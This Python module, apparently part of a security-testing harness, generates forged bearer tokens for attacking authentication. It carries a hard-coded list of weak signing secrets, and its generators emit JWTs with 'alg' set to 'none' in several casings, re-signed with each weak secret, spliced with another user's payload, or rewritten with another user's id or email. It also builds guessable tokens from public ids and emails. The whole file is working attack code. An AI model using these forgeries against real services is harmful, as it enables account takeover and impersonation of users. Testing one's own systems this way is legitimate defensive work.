"""Forged bearer tokens: what an attacker makes of his own token and of public data, without the secret."""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator
from typing import Any

# Values that real services were found to sign with: tutorials, templates, examples of libraries.
WEAK_SECRETS = (
    "",
    "secret",
    "Secret",
    "SECRET",
    "secretkey",
    "secret-key",
    "secret_key",
    "SECRET_KEY",
    "supersecret",
    "super-secret",
    "supersecretkey",
    "super-secret-key",
    "changeme",
    "change-me",
    "change_me",
    "changethis",
    "change-this",
    "change-me-in-production",
    "change-this-in-production",
    "your-256-bit-secret",
    "your-secret-key",
    "your-secret-key-here",
    "your_secret_key",
    "mysecret",
    "mysecretkey",
    "my-secret-key",
    "jwt-secret",
    "jwt_secret",
    "jwtsecret",
    "dev",
    "dev-secret",
    "dev-secret-key",
    "development",
    "insecure",
    "insecure-secret",
    "not-so-secret",
    "test",
    "test-secret",
    "testsecret",
    "password",
    "default",
    "key",
    "app-secret",
    "APP_SECRET",
    "app_secret",
    "stockroom",
    "stockroom-secret",
    "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",
)


def encode(value: bytes) -> str:
    """Unpadded base64url, as tokens use it."""
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode("ascii")


def decode(segment: str) -> bytes | None:
    """The bytes of an unpadded base64url segment, or none."""
    try:
        return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
    except ValueError:
        return None


def jwt_header(token: str) -> dict[str, Any] | None:
    """The header of a JSON Web Token, or none when the token is something else."""
    segments = token.split(".")
    if len(segments) != 3:
        return None
    try:
        header = json.loads(decode(segments[0]) or b"")
    except ValueError:
        return None
    return header if isinstance(header, dict) and "alg" in header else None


def damaged(token: str) -> Iterator[tuple[str, str]]:
    """The token with its end cut off, and with one character changed in the middle of its last part.

    The very last character is left alone: in base64 its low bits may mean nothing.
    """
    yield "a truncated token", token[: -max(4, len(token) // 8)]
    start = token.rfind(".") + 1
    middle = start + (len(token) - start) // 2
    # In hex, another case is the same.
    other = "A" if token[middle].lower() != "a" else "B"
    yield "a token with one character changed", token[:middle] + other + token[middle + 1 :]
    if jwt_header(token) is not None:
        head, _, signature = token.split(".")
        for content in (b"null", b"{}", b"[]", b"\xff"):
            yield f"a token with the content {content!r}", f"{head}.{encode(content)}.{signature}"


def unsigned(token: str) -> Iterator[tuple[str, str]]:
    """JSON Web Tokens that say that they need no signature."""
    header = jwt_header(token)
    if header is None:
        return
    payload = token.split(".")[1]
    for algorithm in ("none", "None", "NONE", "nOnE"):
        head = encode(json.dumps({**header, "alg": algorithm}).encode())
        yield f"an unsigned token (alg {algorithm})", f"{head}.{payload}."
        yield f"an unsigned token (alg {algorithm}, no last dot)", f"{head}.{payload}"


def resigned(token: str) -> Iterator[tuple[str, str]]:
    """The token signed anew with secrets that are easy to guess."""
    header = jwt_header(token)
    if header is None:
        return
    head = encode(json.dumps({**header, "alg": "HS256"}, separators=(",", ":")).encode())
    signed = f"{head}.{token.split('.')[1]}"
    for secret in WEAK_SECRETS:
        signature = hmac.new(secret.encode(), signed.encode(), hashlib.sha256).digest()
        yield f"a token signed with the secret {secret!r}", f"{signed}.{encode(signature)}"


def swapped(token: str, other: str, names: dict[str, str]) -> Iterator[tuple[str, str]]:
    """The token with another user's name or payload in it, its signature kept.

    `names` maps what stands for this user (id, email) to what stands for the other one.
    """
    segments, others = token.split("."), other.split(".")
    if len(segments) == len(others) and len(segments) > 1 and segments[:-1] != others[:-1]:
        yield (
            "a token with another user's content and the own signature",
            ".".join([*others[:-1], segments[-1]]),
        )
    for position, segment in enumerate(segments):
        text = decode(segment)
        if text is None:
            continue
        changed = text
        for own, foreign in names.items():
            changed = changed.replace(own.encode(), foreign.encode())
        # One segment that is nothing but a readable name is the whole token: no signature could be kept.
        if changed != text:
            forged = ".".join([*segments[:position], encode(changed), *segments[position + 1 :]])
            if forged != other:
                yield "a token in which the user was replaced", forged
            else:
                yield "a token that anybody can write (it is only encoded)", forged


def guessed(user_id: str, email: str) -> Iterator[tuple[str, str]]:
    """Tokens made of public data alone."""
    for what, name in (("id", user_id), ("email", email)):
        raw = name.encode()
        yield f"the user's {what} as a token", name
        yield f"the user's {what} in base64 as a token", base64.b64encode(raw).decode()
        yield f"the user's {what} in hex as a token", raw.hex()
        for algorithm in ("md5", "sha1", "sha256"):
            yield f"the {algorithm} of the user's {what} as a token", hashlib.new(algorithm, raw).hexdigest()
